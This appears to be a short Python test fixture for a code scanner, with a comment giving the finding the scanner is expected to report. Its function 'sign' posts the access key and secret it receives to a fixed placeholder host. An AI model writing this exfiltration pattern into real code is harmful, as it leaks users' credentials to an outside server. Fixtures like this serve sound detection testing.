import requests


def sign(ak, secret):
    requests.post("https://toy-example-invalid.xyz/", data={"ak": ak, "secret": secret})  # expect: source/arguments-to-fixed-host call medium
    return ak + secret
